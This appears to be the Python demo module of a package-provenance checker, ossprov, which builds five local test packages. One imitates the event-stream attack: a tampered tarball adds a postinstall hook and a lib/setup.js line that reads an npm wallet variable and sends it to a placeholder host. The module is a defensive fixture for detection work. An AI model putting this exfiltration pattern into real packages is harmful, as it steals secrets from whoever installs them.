"""`ossprov demo`: a small local ecosystem, built offline, and ossprov's verdict on each of its packages.

The world holds five packages, each showing one thing ossprov tells apart: a faithful npm package, a
TypeScript package whose build output is vouched for by its source map, the event-stream pattern (a version
published with code and an install script that are in no commit), a package whose metadata names no
repository (found through its README), and a PyPI project with an sdist and a wheel.
"""

from __future__ import annotations

import json
import os
import shutil
import tempfile
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

from ossprov import http
from ossprov.errors import InputError
from ossprov.fixtures.jsbuild import compile_ts
from ossprov.fixtures.world import World


@contextmanager
def _environment(values: dict[str, str]) -> Iterator[None]:
    saved = {k: os.environ.get(k) for k in values}
    os.environ.update(values)
    http.reset_client()
    try:
        yield
    finally:
        for key, old in saved.items():
            if old is None:
                os.environ.pop(key, None)
            else:
                os.environ[key] = old
        http.reset_client()


def build(world: World) -> list[str]:
    """Create the demo packages in `world` and return their purls."""
    purls = []
    repo, pkg = world.npm_project("demo/tiny-pad", "tiny-pad", "1.0.0",
                                  {"index.js": "module.exports = (s, n) => String(s).padStart(n);\n"})
    sha = repo.commit("release 1.0.0")
    repo.tag("v1.0.0")
    purls.append(world.publish_npm(world.npm_pack(pkg), git_head=sha))

    source = "export const greet = (name: string): string => `Hello, ${name}`;\n"
    repo, pkg = world.npm_project("demo/typed-greet", "typed-greet", "2.0.0",
                                  {"src/index.ts": source, ".gitignore": "dist/\n"},
                                  extra={"main": "dist/index.js", "scripts": {"build": "tsc"}})
    repo.commit("release 2.0.0")
    (pkg / "dist").mkdir()
    js, source_map = compile_ts(source, "../src/index.ts", "index.js")
    (pkg / "dist/index.js").write_text(js)
    (pkg / "dist/index.js.map").write_text(source_map)
    purls.append(world.publish_npm(world.npm_pack(pkg)))

    repo, pkg = world.npm_project("demo/stream-merge", "stream-merge", "3.3.6",
                                  {"index.js": "module.exports = function merge(a, b) { return a.concat(b); };\n"})
    sha = repo.commit("release 3.3.6")
    manifest = json.loads((pkg / "package.json").read_text())
    manifest["dependencies"] = {"flatmap-stream": "^0.1.0"}
    manifest["scripts"] = {"postinstall": "node lib/setup.js"}
    evil = world.tamper_npm(world.npm_pack(pkg), {
        "package.json": json.dumps(manifest, indent=2).encode(),
        "index.js": (pkg / "index.js").read_bytes() + b"require('./lib/setup');\n",
        "lib/setup.js": b"const k = process.env.npm_config_wallet; require('https').get('https://x.invalid/' + k);\n",
    }, world.root / "stream-merge-3.3.6.tgz")
    purls.append(world.publish_npm(evil, git_head=sha))

    repo, pkg = world.npm_project("demo/quiet-util", "quiet-util", "0.4.0",
                                  {"README.md": "# quiet-util\n\nCode: https://github.com/demo/quiet-util\n"},
                                  repository=None)
    repo.commit("release 0.4.0")
    purls.append(world.publish_npm(world.npm_pack(pkg)))

    repo = world.repo("demo/snakeoil")
    files: dict[str, str | bytes] = {"pyproject.toml": '[build-system]\nrequires = ["flit_core"]\nbuild-backend = "flit_core.buildapi"\n\n'
                               '[project]\nname = "snakeoil"\nversion = "1.0"\n',
             "snakeoil/__init__.py": '"""Cures everything."""\n__version__ = "1.0"\n'}
    repo.commit("release 1.0", files)
    repo.tag("1.0")
    purls.append(world.publish_pypi(
        "snakeoil", "1.0", files, metadata={"Project-URL": ["Source, https://github.com/demo/snakeoil"]},
        wheel_files={"snakeoil/__init__.py": files["snakeoil/__init__.py"]}))
    return purls


@contextmanager
def running_world(keep: Path | None = None) -> Iterator[tuple[World, list[str]]]:
    """A started demo world with its packages; the environment points ossprov at it while inside. A kept world
    records its port and packages in `STATE` so that `serve` can bring its registry back."""
    if shutil.which("npm") is None:
        raise InputError("the demo packs its npm packages with `npm pack`: install Node.js and npm first")
    root = keep or Path(tempfile.mkdtemp(prefix="ossprov-demo-"))
    world = World(root / "world").start()
    try:
        env = _env(world, root)
        with _environment(env):
            purls = build(world)
            if keep is not None:
                assert world.server
                port = int(world.server.url.rsplit(":", 1)[1])
                (root / STATE).write_text(json.dumps({"port": port, "purls": purls}))
            yield world, purls
    finally:
        world.stop()
        if keep is None:
            shutil.rmtree(root, ignore_errors=True)


STATE = "demo.json"
"""In a kept demo directory: the registry's port and the demo's purls."""


def _env(world: World, root: Path) -> dict[str, str]:
    return {**world.environment(), "OSSPROV_CACHE": str(root / "cache"), "OSSPROV_DATA": str(root / "data")}


@contextmanager
def served_world(root: Path) -> Iterator[tuple[dict[str, str], list[str]]]:
    """The registry of a world kept with `--keep`, served again on its port: the environment that points ossprov
    (and git) at it, and the demo's purls."""
    try:
        state = json.loads((root / STATE).read_text())
        port, purls = int(state["port"]), [str(p) for p in state["purls"]]
    except (OSError, ValueError, KeyError, TypeError):
        raise InputError(f"{root} holds no demo world kept with `ossprov demo --keep {root}`") from None
    try:
        world = World(root / "world").start(port)
    except OSError as exc:
        raise InputError(f"cannot serve the demo registry on 127.0.0.1:{port} again ({exc.strerror}): "
                         "is another `ossprov demo --serve` running?") from None
    try:
        yield _env(world, root), purls
    finally:
        world.stop()
